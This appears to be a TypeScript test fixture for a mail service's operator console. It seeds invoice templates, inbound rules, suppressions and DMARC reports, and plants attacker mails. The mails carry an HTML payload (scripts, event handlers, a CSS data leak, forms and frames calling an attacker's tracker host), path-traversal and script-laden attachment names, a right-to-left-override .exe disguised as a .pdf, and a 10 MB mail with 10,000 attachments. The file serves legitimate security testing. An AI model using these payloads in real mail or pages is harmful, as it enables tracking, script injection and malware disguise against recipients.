// Mail alone with its console: mails of programs and of attackers, templates, rules, DMARC reports.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { startSink, type Sink, type SinkOptions } from "../../../services/notify/test/sink.ts";
import { startStage, type Stage } from "../../../services/notify/test/stage.ts";
import { HOSTILE } from "./chromium.ts";

/** The operator's token. */
export const TOKEN = "operator-token";

/** Mail that runs in the test's process. */
export type Mail = Stage;

const GIANT_BYTES = 10_000_000;
const ATTACHMENTS = 10_000;

/** Starts the service; DNS does not answer. */
export async function startMail(): Promise<Stage> {
  return startStage({
    token: TOKEN,
    from_domain: "shop.example",
    inbound_port: 0,
    inbound_host: "127.0.0.1",
    allow_private_targets: true,
    dns_servers: ["127.0.0.1:1"],
  });
}

/** Starts an SMTP server that accepts mail, unless `reply` decides otherwise. */
export function startRelay(options: SinkOptions): Promise<Sink> {
  return startSink(options);
}

/** Calls the API as the operator. */
export async function ask(stage: Stage, method: string, path: string, body?: unknown) {
  const headers = { authorization: `Bearer ${TOKEN}` };
  const answer = await stage.call(method, `/api/v1${path}`, body, headers);
  assert.ok(
    answer.status < 300,
    `${method} ${path}: ${answer.status} ${answer.text.slice(0, 500)}`,
  );
  return answer.body;
}

/** Everything in HTML that runs, loads, submits, navigates or measures; `tracker` is the attacker's host. */
const createAttack = (
  tracker: string,
): string => `<base href="http://${tracker}/"><meta http-equiv="refresh" content="0;url=http://${tracker}/refresh">
<link rel="stylesheet" href="http://${tracker}/a.css"><style>@import "http://${tracker}/b.css"; @font-face{font-family:x;src:url(http://${tracker}/f)}
body{background:url(http://${tracker}/bg);font-family:x} input[value^=a]{background:url(http://${tracker}/leak)}</style>
<script>parent.ran=1;top.location="http://${tracker}/top"</script><img src=x onerror="parent.ran=1"><img src="http://${tracker}/open.png">
<svg onload="top.ran=1"><script>top.ran=1</script><image href="http://${tracker}/svg"/><foreignObject><iframe src="http://${tracker}/fo"></iframe></foreignObject></svg>
<form action="http://${tracker}/form"><input name=a value=abc autofocus onfocus="top.ran=1"><button>Sign in</button></form>
<iframe srcdoc="<script>top.ran=1</script>" src="http://${tracker}/frame"></iframe><object data="http://${tracker}/o"></object><embed src="http://${tracker}/e">
<video src="http://${tracker}/v" autoplay></video><a id="out" href="http://${tracker}/click" target="_top">click</a>
<a id="js" href="javascript:top.ran=1" target="_top">js</a><p>attack shown</p>`;

/** Puts a mail into the inbox which the API would refuse, as other programs may write them; returns its id. */
async function storeMail(stage: Stage, subject: string, content: Buffer): Promise<string> {
  const id = randomUUID();
  await stage.database.db
    .insertInto("notify_inbox")
    .values({
      message_id: id,
      channel: "email",
      sender: "a@shop.example",
      recipients: '["victim@example.org"]',
      subject,
      content,
      size_bytes: content.length,
      received_at: Date.now(),
      expires_at: Date.now() + 3_600_000,
    })
    .execute();
  return id;
}

/** A part of a mail with the boundary `b`. */
const createPart = (type: string, body: string, fields = ""): string =>
  `--b\r\nContent-Type: ${type}\r\n${fields}\r\n${body}\r\n`;

/** Sends a mail of an attacker; returns its subject. */
export async function sendAttack(stage: Stage, tracker: string): Promise<string> {
  const subject = `attack ${HOSTILE}`;
  const filenames = ["..", "%2e%2e%2fetc%2fpasswd", "<b onclick=ran>.svg"];
  await ask(stage, "POST", "/send", {
    to: "victim@example.org",
    subject,
    html: createAttack(tracker),
    text: HOSTILE,
    headers: { "X-Note": HOSTILE },
    attachments: filenames.map((filename) => ({
      filename,
      content: "PHN2Zy8+",
      content_type: "image/svg+xml",
    })),
  });
  return subject;
}

/** Stores a mail whose attachment is an `.exe` that is shown as a `.pdf`; returns its id. */
export async function storeDisguise(stage: Stage): Promise<string> {
  const field = "Content-Disposition: attachment; filename*=utf-8''invoice_%E2%80%AEfdp.exe\r\n";
  const content = Buffer.from(
    "From: a@shop.example\r\nSubject: disguise\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
      `${createPart("text/plain", "An invoice")}${createPart("application/pdf", "x", field)}--b--\r\n`,
  );
  return storeMail(stage, "disguise", content);
}

/** Stores a mail of 10 MB of HTML and 10 000 attachments; returns its id. */
export async function storeGiant(stage: Stage): Promise<string> {
  const paragraph = `<p style="color:red">${"x".repeat(80)}</p>\r\n`;
  const file = createPart(
    "image/png",
    "x",
    'Content-Disposition: attachment; filename="../../x.png"\r\n',
  );
  const content = Buffer.from(
    "From: a@shop.example\r\nSubject: giant\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
      createPart("text/plain", `${"y".repeat(78)}\r\n`.repeat(5_000)) +
      createPart("text/html", paragraph.repeat(Math.ceil(GIANT_BYTES / paragraph.length))) +
      file.repeat(ATTACHMENTS) +
      "--b--\r\n",
  );
  return storeMail(stage, "giant", content);
}

const INVOICE = `<div style="font-family:serif;max-width:420px;margin:20px auto">
<h1>November is {{ total }} €</h1>
<p>Hello {{ user.name }},</p>
<p>your invoice for November is attached.</p>
<table>{% for line in lines %}<tr><td>{{ line.title }}</td><td>{{ line.price }} €</td></tr>{% endfor %}</table>
<p><a href="https://shop.example/invoice">See the invoice</a></p></div>`;

/** Fills the service as a shop would. */
export async function fillMail(stage: Stage): Promise<void> {
  const save = (subject: string, html: string): Promise<unknown> =>
    ask(stage, "POST", "/templates", { name: "invoice-ready", subject, html });
  await save("Your invoice", "<p>Hello {{ user.name }}</p>");
  await save("Your invoice for November is ready", INVOICE);
  await ask(stage, "POST", "/templates", { name: "verify-address", text: "Your code: {{ code }}" });
  for (const [to, subject] of [
    ["rafael@example.org", "Sign-in from a new device"],
    ["julia@example.org", "Confirm your address"],
  ]) {
    await ask(stage, "POST", "/send", {
      to,
      from: "no-reply@shop.example",
      subject,
      text: "Hello",
    });
  }
  await ask(stage, "POST", "/send/template", {
    template: "invoice-ready",
    to: "otto@example.org",
    from: "billing@shop.example",
    variables: {
      user: { name: "Otto" },
      total: "1 284.50",
      lines: [
        { title: "Platform, 3 machines", price: "960.00" },
        { title: "Traffic, 2.4 TB", price: "112.90" },
      ],
    },
    attachments: [
      { filename: "invoice-2026-11.pdf", content: "JVBERi0=", content_type: "application/pdf" },
    ],
  });
  for (const [name, pattern, priority] of [
    ["everything else", "*@shop.example", 0],
    ["support", "support@shop.example", 10],
  ] as const) {
    await ask(stage, "POST", "/inbound/rules", {
      name,
      match: { to_pattern: pattern },
      forward_to: `http://127.0.0.1:9/${name.replaceAll(" ", "-")}`,
      priority,
    });
  }
  for (const [email, reason] of [
    ["gone@example.org", "hard_bounce"],
    ["angry@example.org", "complaint"],
  ]) {
    await ask(stage, "POST", "/suppression", { email, reason });
  }
  const record = (ip: string, count: number, spf: string, dkim: string, disposition: string) => ({
    source_ip: ip,
    count,
    disposition,
    spf,
    dkim,
  });
  await stage.database.db
    .insertInto("notify_dmarc_reports")
    .values({
      org_name: `Reporter ${HOSTILE}`,
      report_id: "1",
      domain: "shop.example",
      begins_at: Date.now() - 1_000,
      ends_at: Date.now(),
      total: 1_240,
      aligned: 1_200,
      failed_spf: 40,
      failed_dkim: 40,
      records: JSON.stringify([
        record("192.0.2.10", 1_200, "pass", "pass", "none"),
        record("203.0.113.66", 40, "fail", "fail", "reject"),
      ]),
      received_at: Date.now(),
    })
    .execute();
}
